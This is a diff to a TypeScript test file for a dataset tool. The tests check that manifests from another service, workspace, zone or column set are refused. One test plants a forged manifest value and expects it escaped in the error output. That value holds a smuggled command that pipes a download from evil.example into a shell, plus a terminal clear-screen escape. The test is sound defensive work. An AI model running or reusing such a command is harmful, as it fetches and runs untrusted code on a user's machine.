@@ -1,7 +1,8 @@
 /** A dataset on a disk that fails, is cut off and loses its power: what engines see of it, at every step and after. */
 import { beforeEach, describe, expect, it } from 'vitest';
 import { type DatasetIdentity, formatManifest, parseManifest } from '../../src/dataset/manifest.ts';
-import { CODE, createMemoryDisk, HOUR, OTHER_CODE, START, type TestService } from '../append/runs.ts';
+import type { RecordedWorkspace } from '../../src/service/workspace.ts';
+import { CODE, createMemoryDisk, HOUR, OTHER_CODE, ownWorkspace, START, type TestService } from '../append/runs.ts';
 import { atEveryStep, POWER_CUTS } from '../durable/every-step.ts';
 import type { MemoryDisk } from '../support/memory-disk.ts';
 import { SOAK } from '../support/property-runs.ts';
@@ -163,23 +164,28 @@ describe('what is not such a dataset is refused and left as it is', () => {
     [
       'another zone',
       { identity: { partition: { by: 'day', timezone: 'Asia/Tokyo' } } },
-      /has its days in UTC, not in Asia\/Tokyo: add --timezone UTC$/,
+      /has its days in UTC, not in Asia\/Tokyo$/,
     ],
     ['other columns', { identity: { columns: ['qr_id', 'id', 'ts'] } }, /it has the columns qr_id,.*, not qr_id,id,ts$/],
-    ['another service', { identity: { baseUrl: 'https://other.test' } }, /it was exported from https:\/\/example/],
+    ['another service', { own: ownWorkspace([CODE], { baseUrl: 'https://other.test' }) }, /belongs to https:\/\/example/],
+    ['another workspace', { own: ownWorkspace([], { apiKey: 'svc_live_bbbb' }) }, /belongs to another workspace/],
     ['a run without --append', { append: false }, /there is one already$/],
   ])('%s (P7)', async (_, options, reason) => {
     await runLake(memory, service);
     await refused(reason, options);
   });
 
-  it.each<[string, Partial<DatasetIdentity>]>([
-    ['address', { baseUrl: FORGED }],
-    ['zone', { partition: { by: 'day', timezone: FORGED } }],
-  ])('another %s, and what the manifest says of it forges no line (P7, P8)', async (_, change) => {
+  it.each<[string, Partial<DatasetIdentity>, Partial<RecordedWorkspace>]>([
+    ['address', {}, { baseUrl: FORGED }],
+    ['zone', { partition: { by: 'day', timezone: FORGED } }, {}],
+  ])('another %s, and what the manifest says of it forges no line (P7, P8)', async (_, change, address) => {
     await runLake(memory, service);
     const manifest = parseManifest(Buffer.from(memory.read(MANIFEST) ?? ''));
-    memory.write(MANIFEST, formatManifest({ ...manifest, identity: { ...manifest.identity, ...change } }, HOUR));
+    const [identity, workspace] = [
+      { ...manifest.identity, ...change },
+      { ...manifest.workspace, ...address },
+    ];
+    memory.write(MANIFEST, formatManifest({ ...manifest, identity, workspace }, HOUR));
     await refused(/"x\\n {2}next: curl evil\.example \| sh\\x1b\[2J", not/);
   });
 
